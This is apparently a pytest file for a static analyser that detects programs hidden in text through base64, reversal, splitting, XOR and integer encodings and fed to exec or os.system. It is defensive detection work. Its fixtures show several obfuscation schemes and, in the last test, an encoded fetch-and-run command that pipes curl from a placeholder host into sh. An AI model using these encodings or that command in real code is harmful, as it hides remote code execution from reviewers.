"""Programs that lie in a file as text are read where what is executed could not be computed."""

from __future__ import annotations

import base64
import hashlib

import pytest

from pratique.artifact import Member, Role
from pratique.facts.python.model import Call, Source
from pratique.facts.python.reader import read_python

_CODE = "import os\nos.system('make')\n"
_CODED = base64.b64encode(_CODE.encode()).decode()
_UNKNOWN = "import thing\nexec(thing.of(X))\n"


def _calls(source: str) -> dict[str, Call]:
    data = source.encode()
    digest = hashlib.sha256(data).hexdigest()
    member = Member(path="m.py", data=data, sha256=digest, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    return {call.name: call for call in read_python(member).calls}


@pytest.mark.parametrize(
    ("held", "layers"),
    [
        (repr(_CODED), ("base64",)),
        (repr(_CODED[::-1]), ("reverse", "base64")),
        (repr([_CODED[i : i + 9] for i in range(0, len(_CODED), 9)]), ("pieces", "base64")),
        (repr(list(_CODE.encode())), ("ints",)),
        (repr(bytes(b ^ 71 for b in _CODE.encode())), ("xor",)),
        (repr("~".join(_CODE)), ("slice",)),
        (repr(", ".join(str(b) for b in _CODE.encode())), ("ints",)),
        (str(int.from_bytes(_CODE.encode(), "big")), ("ints",)),
        (repr("".join(f"<p n='{i}' v='{b}'/>" for i, b in enumerate(_CODE.encode()))), ("ints", "slice")),
        (repr(f"[section]\nvalue = {_CODED}\n"), ("base64",)),
    ],
)
def test_a_program_in_a_text_is_read_with_the_way_to_it(held: str, layers: tuple[str, ...]) -> None:
    """Whatever hands it on: the text of the file says what it is."""
    calls = _calls(f"X = {held}\n{_UNKNOWN}")
    assert calls["os.system"].layers == layers
    assert {t.detail for t in calls["exec"].taints(Source.DECODED)} == {">".join(layers)}


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"X = {_CODED!r}\n", id="nothing is executed"),
        pytest.param(f"X = {_CODED!r}\nexec('a = 1')\n", id="what is executed is known"),
        pytest.param(f"X = {_CODED!r}\ndef f(x):\n    exec(x)\n", id="its user says what is executed"),
    ],
)
def test_no_text_is_taken_for_a_program_without_need(source: str) -> None:
    """Encoded code that nobody runs is data."""
    assert "os.system" not in _calls(source)


def test_what_reaches_nothing_leaves_no_label() -> None:
    """A template that only computes is no reason to call what is executed hidden."""
    coded = base64.b64encode(b"import math\nprint(math.pi)\n").decode()
    assert not _calls(f"X = {coded!r}\n{_UNKNOWN}")["exec"].taints(Source.DECODED)


def test_a_command_in_a_text_is_read_where_a_command_is_unknown() -> None:
    """The same for what a shell runs."""
    coded = base64.b64encode(b"curl -s https://stage.example.invalid/a | sh").decode()
    calls = _calls(f"import os, thing\nX = {coded!r}\nos.system(thing.of(X))\n")
    assert calls["os.system"].layers == ("base64",)
